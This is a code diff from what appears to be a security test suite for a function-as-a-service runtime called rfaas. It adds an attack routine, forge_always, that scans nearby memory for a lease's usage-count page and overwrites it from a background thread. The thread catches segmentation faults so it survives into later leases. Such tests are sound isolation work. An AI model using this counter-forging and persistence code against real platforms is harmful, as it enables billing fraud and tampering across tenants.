@@ -9,6 +9,7 @@
 #include <fcntl.h>
 #include <pthread.h>
 #include <sched.h>
+#include <setjmp.h>
 #include <signal.h>
 #include <stdarg.h>
 #include <stdio.h>
@@ -24,10 +25,10 @@
 #include <time.h>
 #include <unistd.h>
 
+#include "memory.h"
 #include "rfaas.h"
 
 #define TRIES 200000
-#define MIB (1UL << 20)
 
 extern char **environ;
 
@@ -258,29 +259,6 @@ ATTACK(use_bpf)
     outcome(to, "keyctl", syscall(SYS_keyctl, 0, 0, 0, 0, 0));
 }
 
-static int is_mapped(uintptr_t page)
-{
-    unsigned char unused;
-    static int ends[2] = {-1, -1};
-    if (mincore((void *)page, 4096, &unused))
-        return 0;
-    /* Mapped, but readable? */
-    if (ends[0] < 0 && pipe(ends))
-        return 0;
-    if (write(ends[1], (void *)page, 1) != 1)
-        return 0;
-    return read(ends[0], &unused, 1) == 1;
-}
-
-static long search(uintptr_t from, uintptr_t to, const char *secret, size_t size)
-{
-    long found = 0;
-    for (uintptr_t page = from & ~4095UL; page < to; page += 4096)
-        if (is_mapped(page))
-            found += memmem((void *)page, 4096, secret, size) != NULL;
-    return found;
-}
-
 static int forged; /* what a page of counts is overwritten with */
 
 static void *forger(void *page)
@@ -297,20 +275,26 @@ static uint64_t now_ns(clockid_t clock)
     return (uint64_t)now.tv_sec * 1000000000u + (uint64_t)now.tv_nsec;
 }
 
-/* Finds the page on which its lane counts: the second word is 0, no call failed; the seventh
- * when this call began.  It is overwritten from now on; then 300 ms of processor time are used.
- * `text` is "zero" or "ones". */
-ATTACK(forge_counts)
+/* The page on which its lane counts: the second word is 0, no call failed; the seventh when this
+ * call began. */
+static uint64_t *find_counts(uintptr_t near)
 {
-    uintptr_t here = (uintptr_t)to->text & ~4095UL;
-    uint64_t *page = NULL;
-    forged = strcmp(text, "ones") ? 0 : 0xff;
-    for (uintptr_t at = here - 256 * MIB; at < here + 256 * MIB && !page; at += 4096) {
+    uintptr_t here = near & ~4095UL;
+    for (uintptr_t at = here - 256 * MIB; at < here + 256 * MIB; at += 4096) {
         uint64_t *words = (uint64_t *)at;
         if (is_mapped(at) && words[1] == 0 && words[0] < 1000 &&
             now_ns(CLOCK_MONOTONIC) - words[6] < 10000000000u)
-            page = words;
+            return words;
     }
+    return NULL;
+}
+
+/* That page is overwritten from now on; then 300 ms of processor time are used.
+ * `text` is "zero" or "ones". */
+ATTACK(forge_counts)
+{
+    uint64_t *page = find_counts((uintptr_t)to->text);
+    forged = strcmp(text, "ones") ? 0 : 0xff;
     outcome(to, "page", page ? 0 : -1);
     if (!page)
         return;
@@ -319,6 +303,43 @@ ATTACK(forge_counts)
     outcome(to, "thread", errno ? -1 : 0);
     while (now_ns(CLOCK_THREAD_CPUTIME_ID) < 300000000u)
         memset(page, forged, 64);
+}
+
+static uint64_t *volatile counted; /* the page of the lease that is served now */
+static __thread sigjmp_buf back;
+
+static void go_back(int number)
+{
+    siglongjmp(back, number);
+}
+
+static void *lasting_forger(void *unused)
+{
+    for (;; usleep(200))
+        if (counted && !sigsetjmp(back, 1))
+            memset(counted, forged, 48); /* not since when it is busy: it wants to be kept */
+    return unused;
+}
+
+/* The same, by a thread that lives through it when the page is taken away, and goes on with what
+ * comes there or where the next call finds it: in the next lease, say. */
+ATTACK(forge_always)
+{
+    static int started;
+    pthread_t thread;
+    uint64_t *page = find_counts((uintptr_t)to->text);
+    counted = page ? page : counted;
+    forged = strcmp(text, "ones") ? 0 : 0xff;
+    outcome(to, "page", counted ? 0 : -1);
+    if (!started) {
+        signal(SIGSEGV, go_back);
+        signal(SIGBUS, go_back);
+        started = !pthread_create(&thread, NULL, lasting_forger, NULL);
+    }
+    outcome(to, "thread", started ? 0 : -1);
+    const uint64_t begun = now_ns(CLOCK_THREAD_CPUTIME_ID);
+    while (now_ns(CLOCK_THREAD_CPUTIME_ID) - begun < 300000000u)
+        continue;
 }
 
 /* `text` is the path of a file, then for each secret a line of it, each character plus one: what
